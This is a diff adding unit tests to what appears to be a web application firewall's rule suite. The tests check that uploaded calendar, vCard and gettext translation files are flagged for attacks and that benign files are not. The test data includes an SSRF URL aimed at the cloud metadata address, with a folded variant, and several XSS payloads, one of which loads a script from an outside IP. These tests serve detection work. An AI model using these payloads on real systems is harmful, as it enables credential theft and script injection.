@@ -102,6 +102,72 @@ describe("uploads a converter or a player acts on", () => {
   });
 });
 
+describe("records an importer takes from a file: contacts, events, translations", () => {
+  const ics = (props: string) =>
+    `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Apple Inc.//macOS 14.4//EN\r\nBEGIN:VEVENT\r\nUID:A1B2-C3\r\nDTSTART:20240510T090000Z\r\n${props}END:VEVENT\r\nEND:VCALENDAR\r\n`;
+  const vcard = (props: string) => `BEGIN:VCARD\r\nVERSION:4.0\r\n${props}END:VCARD\r\n`;
+  const po = (entries: string) =>
+    `# Dutch translation\nmsgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: nl\\n"\n\n${entries}`;
+
+  it("reads an event's properties as the values a server fetches and a page shows", () => {
+    const metadata = ics(
+      "SUMMARY:Standup\r\nATTACH;FMTTYPE=application/octet-stream:http://169.254.169.254/latest/meta-data/iam/\r\n",
+    );
+    expect(upload("invite.ics", "text/calendar", metadata)).toContain("934110@body:multipart.file.content.attach");
+    // Folded: the address continues on the next line, after a space.
+    const folded = ics("URL:http://169.254.169\r\n .254/latest/meta-data/\r\n");
+    expect(upload("invite.ics", "application/octet-stream", folded)).toContain(
+      "934110@body:multipart.file.content.url",
+    );
+    const benign = ics(
+      'SUMMARY:Sprint review\\, Q2\r\nDESCRIPTION:Agenda:\\n1. Demo (10 min)\\n2. Retro - what went well?\\nJoin: https://meet.example.com/abc-defg-hij\r\nLOCATION:Room 4.12\\; 4th floor\r\nURL:https://calendar.example.com/e/8812\r\nATTACH;FMTTYPE=application/pdf:https://files.example.com/agenda.pdf\r\nORGANIZER;CN="Ann O\'Neil":mailto:ann@example.com\r\n',
+    );
+    expect(upload("invite.ics", "text/calendar", benign)).toEqual([]);
+  });
+
+  it("reads a contact's properties, and leaves its role to the contact", () => {
+    const xss = vcard("FN:<svg><animate onbegin=alert(1) attributeName=x dur=1s>\r\nORG:Evil Inc\r\n");
+    expect(upload("contact.vcf", "text/x-vcard", xss)).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^941\d+@body:multipart\.file\.content\.fn$/)]),
+    );
+    const person = vcard(
+      "FN:Zoë O'Brien-Díaz\r\nN:O'Brien-Díaz;Zoë;;;\r\nORG:Acme\\, Inc.;R&D\r\nROLE:Administrator\r\nTITLE:Head of IT\r\nEMAIL;TYPE=work:zoe@acme.example\r\nTEL;TYPE=cell:+1-555-0100\r\nNOTE:Met at KubeCon - follow up re: renewal (Q3)\\, prefers email\r\nURL:https://acme.example/team/zoe\r\n",
+    );
+    expect(upload("zoe.vcf", "text/vcard", person)).toEqual([]);
+    // Even sent to the caller's own profile, a contact's ROLE is no role the caller sets.
+    const own = (content: string) =>
+      where(
+        req({
+          method: "POST",
+          path: "/api/me/contacts/import",
+          rawPath: "/api/me/contacts/import",
+          body: {
+            bytes: enc.encode(
+              `--XB\r\nContent-Disposition: form-data; name="file"; filename="zoe.vcf"\r\nContent-Type: text/vcard\r\n\r\n${content}\r\n--XB--\r\n`,
+            ),
+            contentType: "multipart/form-data; boundary=XB",
+            truncated: false,
+          },
+        }),
+      );
+    expect(own(person)).toEqual([]);
+  });
+
+  it("reads a catalogue's translations as the text its pages render", () => {
+    const script = po('msgid "Sign in"\nmsgstr "Inloggen<script src=//198.51.100.66/k.js></script>"\n');
+    expect(upload("nl.po", "text/x-gettext-translation", script)).toContain(
+      "941100@body:multipart.file.content.msgstr",
+    );
+    // Split over quoted lines, as gettext writes long strings: joined before it is judged.
+    const split = po('msgid "Welcome"\nmsgstr ""\n"Welkom <img src=x "\n"onerror=alert(document.domain)>"\n');
+    expect(upload("nl.po", "application/octet-stream", split).some((m) => m.startsWith("941"))).toBe(true);
+    const benign = po(
+      '#. Shown on the checkout button\n#: src/checkout.tsx:42\nmsgid "Pay %s now"\nmsgstr "Nu %s betalen"\n\nmsgid "Read our <a href=\\"/terms\\">terms</a>"\nmsgstr "Lees onze <a href=\\"/terms\\">voorwaarden</a>"\n\nmsgid "One file"\nmsgid_plural "{count} files"\nmsgstr[0] "Eén bestand"\nmsgstr[1] "{count} bestanden"\n',
+    );
+    expect(upload("nl.po", "text/x-gettext-translation", benign)).toEqual([]);
+  });
+});
+
 describe("XML inside a zip (an office document, an e-book)", () => {
   const types =
     '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>';
